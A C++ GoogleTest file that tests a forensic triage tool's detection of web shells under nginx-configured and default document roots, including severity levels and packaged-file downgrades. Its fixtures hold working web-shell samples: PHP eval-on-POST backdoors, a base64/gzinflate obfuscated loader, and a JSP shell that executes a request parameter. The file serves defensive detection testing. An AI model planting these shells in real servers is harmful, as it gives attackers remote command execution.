// End-to-end: web shells planted under the document roots the web servers' configurations
// name (and the usual ones), found whatever their age; ordinary pages stay quiet.
#include <map>

#include <gtest/gtest.h>

#include "e2e/fixture_root.hpp"

using namespace vigil::testing;

TEST(ImageWebShell, ShellsInConfiguredAndUsualRootsAreFound) {
  TempDir d;
  base_root(d);
  d.write("etc/nginx/sites-enabled/shop", "server {\n  listen 80;\n  root /data/shop/public;\n  index index.php;\n}\n");
  d.write("data/shop/public/index.php", "<?php\nrequire 'app.php';\necho htmlspecialchars($_GET['q'] ?? '');\n");
  d.write("data/shop/public/uploads/thumb.php", "<?php\n// image cache\n@eval($_POST['x']);\n");
  d.write("var/www/html/wp-content/plugins/seo/cache.php",
          "<?php $c='7VPBbhoxEL3zFVMfcqgQqG2kHDrrWtCGKAkKSluUqkW3H0kN8m7lP';\n"
          "eval(gzinflate(base64_decode($c)));\n");
  d.write("var/www/html/status.jsp", "<%@ page import=\"java.io.*\" %>\n<% Process p = "
                                     "Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n");
  d.write("var/www/html/about.html", "<p>eval($_POST['x']) in prose is not code</p>\n");
  age_files(d, 400);
  std::map<std::string, std::string> found;  // path -> severity
  for (const auto& f : findings_of(triage(d, {"--since", "0"}), "files.web-shell"))
    found[f["file"]["path"]] = f["vigil"]["severity"];
  EXPECT_EQ(found["/data/shop/public/uploads/thumb.php"], "critical") << "a root only nginx's configuration names";
  EXPECT_EQ(found["/var/www/html/wp-content/plugins/seo/cache.php"], "high");
  EXPECT_EQ(found["/var/www/html/status.jsp"], "critical");
  EXPECT_EQ(found.size(), 3u) << "index.php and about.html are pages";
}

TEST(ImageWebShell, PackagedApplicationIsOneStepLower) {
  TempDir d;
  base_root(d);
  d.write("var/www/html/vendor/lib/loader.php", "<?php eval(base64_decode($blob));\n");
  d.write("var/lib/dpkg/info/php-lib.list", "/var/www/html/vendor/lib/loader.php\n");
  age_files(d, 400);
  auto found = findings_of(triage(d, {"--since", "0"}), "files.web-shell");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0]["vigil"]["severity"], "low");
}
